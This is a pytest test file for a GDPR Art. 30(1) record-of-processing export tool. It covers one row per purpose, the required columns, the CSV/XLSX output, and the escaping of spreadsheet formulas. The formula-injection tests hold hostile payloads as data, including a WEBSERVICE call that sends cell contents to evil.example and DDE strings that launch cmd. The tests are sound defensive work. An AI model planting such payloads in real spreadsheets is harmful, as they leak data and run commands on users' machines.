"""The Art. 30(1) record: one row per purpose, every Art. 30(1) column, unknowns named."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from conftest import MAXIRESPONSE, write_yaml

import pia
from pia.cli import main
from pia.model import Assessment
from pia.ropa import (
    ADDRESS,
    ASSESSMENT,
    COLUMNS,
    COMPANY_NUMBER,
    CONTROLLER,
    DATA,
    DPO,
    NOT_RECORDED,
    PURPOSE,
    PURPOSE_DESCRIPTION,
    RECIPIENTS,
    SECURITY,
    SUBJECTS,
    TRANSFERS,
    RopaError,
    ropa,
    write,
)
from pia.spreadsheet import XLSX_CELL_CHARS, csv_bytes, formula_like, xlsx_bytes

ART30 = ("(a)", "(b)", "(c)", "(d)", "(e)", "(f)", "(g)")


@pytest.fixture(scope="module")
def maxi() -> Assessment:
    return pia.load(MAXIRESPONSE)


def test_one_row_per_purpose_on_maxiresponse(maxi: Assessment) -> None:
    frame = ropa([maxi])
    assert len(frame) == 4
    assert list(frame["Purpose id"]) == [p.id for p in maxi.purposes]
    assert list(frame["Art. 30(1)(b) purpose"]) == [p.name for p in maxi.purposes]
    assert (frame["Art. 30(1)(a) controller name"] == "bpost").all()


def test_every_art30_column_is_present(maxi: Assessment) -> None:
    frame = ropa([maxi])
    assert list(frame.columns) == list(COLUMNS)
    for letter in ART30:
        assert any(c.startswith(f"Art. 30(1){letter} ") for c in frame.columns), letter
    assert {"Art. 30(1)(a) DPO contact", "Art. 30(1)(a) controller company number"} <= set(
        frame.columns
    )
    assert frame.notna().all().all()


def test_two_assessments_together(maxi: Assessment, minimal: dict[str, Any]) -> None:
    small = Assessment.model_validate(minimal)
    frame = ropa([maxi, small])
    assert len(frame) == 5
    assert list(frame["Assessment"]) == [maxi.metadata.title] * 4 + ["Newsletter for members"]
    last = frame.iloc[-1]
    assert last["Art. 30(1)(a) controller name"] == "Example Club"
    assert last["Art. 30(1)(c) categories of data subjects"] == "Members"
    assert last["Art. 30(1)(c) categories of personal data"] == "Name and e-mail address"
    assert last["Legal bases (Art. 6(1))"] == "consent (Art. 6(1)(a) GDPR)"


def test_unknowns_say_not_recorded(maxi: Assessment, minimal: dict[str, Any]) -> None:
    small = ropa([Assessment.model_validate(minimal)]).iloc[0]
    for column in (
        "Art. 30(1)(a) controller address",
        "Art. 30(1)(a) controller company number",
        "Art. 30(1)(a) DPO contact",
        "Art. 30(1)(f) envisaged time limits for erasure",
    ):
        assert small[column] == NOT_RECORDED, column
    assert small["Art. 30(1)(e) third-country transfers and safeguards"] == "none recorded"
    assert small["Art. 30(1)(g) technical and organisational security measures"] == (
        "none recorded"
    )
    row = ropa([maxi]).set_index("Purpose id").loc["advertising"]
    transfers = row["Art. 30(1)(e) third-country transfers and safeguards"]
    assert "TCS to IN: transfer tool not recorded" in transfers
    retention = row["Art. 30(1)(f) envisaged time limits for erasure"]
    assert "customers: 3 years, from termination of the contract" in retention
    assert "people who only gave consent: period not recorded, trigger not recorded" in retention
    assert "TCS (processor, IN)" in row["Art. 30(1)(d) categories of recipients"]


def test_all_groups_when_the_purpose_names_none(minimal: dict[str, Any]) -> None:
    minimal["description"]["data_subjects"].append(
        {"id": "staff", "name": "Staff", "kind": "employee"}
    )
    del minimal["purposes"][0]["data_subjects"]
    row = ropa([Assessment.model_validate(minimal)]).iloc[0]
    assert row["Art. 30(1)(c) categories of data subjects"] == "Members; Staff"


def test_transfer_safeguard_and_measures(minimal: dict[str, Any]) -> None:
    minimal["description"]["recipients"] = [
        {"id": "mailer", "name": "Mailer Inc", "role": "processor", "country": "US"}
    ]
    minimal["description"]["transfers"] = [
        {
            "id": "to_us",
            "recipient": "mailer",
            "country": "US",
            "kind": "storage",
            "tool": "scc_2021_914",
            "scc_module": 2,
        }
    ]
    minimal["description"]["retention_rules"] = [
        {"id": "keep", "applies_to": ["customers"], "period": "2 years", "purposes": ["newsletter"]}
    ]
    minimal["measures"] = [
        {"id": "tls", "title": "TLS in transit", "kind": "technical", "status": "implemented"},
        {"id": "idea", "title": "Maybe later", "kind": "technical", "status": "proposed"},
        {
            "id": "dpa",
            "title": "Processor contract",
            "kind": "contractual",
            "status": "implemented",
        },
        {"id": "train", "title": "Staff training", "kind": "organisational", "status": "planned"},
    ]
    row = ropa([Assessment.model_validate(minimal)]).iloc[0]
    assert row["Art. 30(1)(d) categories of recipients"] == "Mailer Inc (processor, US)"
    assert row["Art. 30(1)(e) third-country transfers and safeguards"] == (
        "Mailer Inc to US: standard contractual clauses 2021/914, module 2"
    )
    assert row["Art. 30(1)(f) envisaged time limits for erasure"] == (
        "customers: 2 years, trigger not recorded"
    )
    assert row["Art. 30(1)(g) technical and organisational security measures"] == (
        "TLS in transit (technical, implemented); Staff training (organisational, planned)"
    )


def test_csv_round_trips(tmp_path: Path, maxi: Assessment) -> None:
    frame = ropa([maxi])
    out = write(frame, tmp_path / "out" / "ropa.csv")
    again = pd.read_csv(out, encoding="utf-8", dtype=str, keep_default_na=False)
    pd.testing.assert_frame_equal(again, frame)
    assert "Anspachlaan" in out.read_text("utf-8")


def test_other_suffix_is_refused(tmp_path: Path, maxi: Assessment) -> None:
    with pytest.raises(RopaError, match=r"\.csv or \.xlsx"):
        write(ropa([maxi]), tmp_path / "ropa.json")


def test_xlsx_needs_openpyxl_or_says_so(tmp_path: Path, maxi: Assessment) -> None:
    out = tmp_path / "ropa.xlsx"
    try:
        import openpyxl  # noqa: F401
    except ImportError:
        with pytest.raises(RopaError, match="install it"):
            write(ropa([maxi]), out)
    else:
        write(ropa([maxi]), out)
        assert len(pd.read_excel(out)) == 4


def test_cli_writes_the_record(tmp_path: Path, minimal: dict[str, Any], capsys) -> None:
    small = write_yaml(tmp_path / "small.yaml", minimal)
    out = tmp_path / "ropa.csv"
    assert main(["ropa", str(MAXIRESPONSE), str(small), "--out", str(out)]) == 0
    assert "5 processing purpose(s)" in capsys.readouterr().out
    assert len(pd.read_csv(out)) == 5
    assert main(["ropa", str(small), "--out", str(tmp_path / "ropa.txt")]) == 1
    assert ".csv or .xlsx" in capsys.readouterr().err


def test_the_time_limit_for_erasure_includes_the_archive(minimal: dict[str, Any]) -> None:
    minimal["description"]["retention_rules"] = [
        {
            "id": "keep",
            "applies_to": ["customers"],
            "purposes": ["newsletter"],
            "period": "3 years",
            "trigger": "last purchase",
            "deletion": "archive_then_erasure",
            "archive": {"period": "7 years", "ground": "legal_obligation"},
        }
    ]
    (row,) = ropa([Assessment.model_validate(minimal)]).to_dict("records")
    assert row["Art. 30(1)(f) envisaged time limits for erasure"] == (
        "customers: 3 years, from last purchase, then archive 7 years"
    )


# --- formula injection: analyst text stays text in every spreadsheet ------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example","x")'
# Analyst texts that start a cell of the record, each with a formula (or a sign) in front.
PAYLOADS: list[tuple[tuple[str | int, ...], str]] = [
    (("metadata", "title"), "=1+1"),
    (("metadata", "controller", "name"), "@SUM(1+1)*cmd|' /C calc'!A0"),
    (("metadata", "controller", "address"), "+32 2 201 23 45, Brussels"),
    (("metadata", "controller", "company_number"), "-0214.596.464"),
    (("metadata", "dpo_contact"), '=WEBSERVICE("http://evil.example/?"&A1)'),
    (("purposes", 0, "name"), "-2+3+cmd|' /C calc'!A0"),
    (("purposes", 0, "description"), '=IMPORTXML("http://evil.example", "//a")'),
    (("description", "data_categories", 0, "name"), HYPERLINK),
    (("description", "data_subjects", 0, "name"), "@members"),
    (("description", "recipients", 0, "name"), "+Mailer"),  # starts the transfers cell too
    (("measures", 0, "title"), "=1+2"),
]
# The cells they start: 12 of the record's 15 (the issue counted 13 in its own payload file).
HOSTILE_COLUMNS = [
    *(ASSESSMENT, CONTROLLER, ADDRESS, COMPANY_NUMBER, DPO, PURPOSE, PURPOSE_DESCRIPTION),
    *(SUBJECTS, DATA, RECIPIENTS, TRANSFERS, SECURITY),
]


def hostile_record(minimal: dict[str, Any]) -> pd.DataFrame:
    minimal["description"]["recipients"] = [
        {"id": "mailer", "name": "x", "role": "processor", "country": "US"}
    ]
    minimal["description"]["transfers"] = [
        {"id": "to_us", "recipient": "mailer", "country": "US", "kind": "storage"}
    ]
    minimal["measures"] = [
        {"id": "tls", "title": "x", "kind": "technical", "status": "implemented"}
    ]
    for path, payload in PAYLOADS:
        node = minimal
        for part in path[:-1]:
            node = node[part]
        node[path[-1]] = payload
    return ropa([Assessment.model_validate(minimal)])


@pytest.mark.parametrize(
    ("value", "formula"),
    [
        ("=1+1", True),
        (HYPERLINK, True),
        ("+32 2 201 23 45", True),
        ("-5", True),
        ("@SUM(A1)", True),
        ("\t=1+1", True),
        ("\r=1+1", True),
        ("\tplain", True),  # a tab or carriage return in front hides what follows
        ("   =1+1", True),  # blanks may be trimmed by whoever imports the file
        ("\n@x", True),
        ("a = b", False),
        ("e-mail", False),
        ("'=1+1", False),  # already text to a spreadsheet
        ("", False),
        (-5, False),  # a number stays a number
        (None, False),
    ],
)
def test_which_cells_a_spreadsheet_takes_for_formulas(value: object, formula: bool) -> None:
    assert formula_like(value) is formula


def test_no_csv_cell_of_the_record_starts_a_formula(tmp_path: Path, minimal) -> None:
    frame = hostile_record(minimal)
    hostile = [column for column in COLUMNS if formula_like(frame.iloc[0][column])]
    assert hostile == HOSTILE_COLUMNS  # what an unguarded CSV would hand to a spreadsheet
    out = write(frame, tmp_path / "ropa.csv")
    header, row = list(csv.reader(out.read_text("utf-8").splitlines()))
    assert header == list(COLUMNS)
    assert [cell for cell in row if formula_like(cell)] == []
    for column, cell in zip(COLUMNS, row, strict=True):
        value = frame.iloc[0][column]
        assert cell == ("'" + value if column in hostile else value), column  # still readable
    assert row[COLUMNS.index(DATA)] == "'" + HYPERLINK


def test_no_xlsx_cell_of_the_record_is_a_formula(tmp_path: Path, minimal) -> None:
    frame = hostile_record(minimal)
    out = write(frame, tmp_path / "ropa.xlsx")
    sheet = openpyxl.load_workbook(out).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert {c.data_type for c in cells} == {"s"}
    link = sheet.cell(row=2, column=COLUMNS.index(DATA) + 1)
    assert (link.value, link.data_type, link.quotePrefix) == (HYPERLINK, "s", True)
    assert link.hyperlink is None
    again = pd.read_excel(out, dtype=str, keep_default_na=False)
    pd.testing.assert_frame_equal(again, frame)  # every value exactly as written


def test_numbers_stay_numbers_and_the_headers_are_guarded_too(tmp_path: Path) -> None:
    frame = pd.DataFrame({"count": [-5, 3], "=name": ["-x", "ok"]})
    assert csv_bytes(frame).decode() == "count,'=name\n-5,'-x\n3,ok\n"
    out = tmp_path / "t.xlsx"
    out.write_bytes(xlsx_bytes(frame, "t"))
    sheet = openpyxl.load_workbook(out).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == (-5, "n")
    assert (sheet["B1"].value, sheet["B1"].data_type) == ("=name", "s")


def test_a_text_longer_than_an_excel_cell_is_cut_and_says_so(tmp_path: Path) -> None:
    long = "x" * 50_000
    out = tmp_path / "t.xlsx"
    out.write_bytes(xlsx_bytes(pd.DataFrame({"text": [long]}), "t"))
    value = openpyxl.load_workbook(out).active["A2"].value
    assert len(value) == XLSX_CELL_CHARS
    assert value.endswith("[cut: 50,000 characters in all; the CSV has them]")
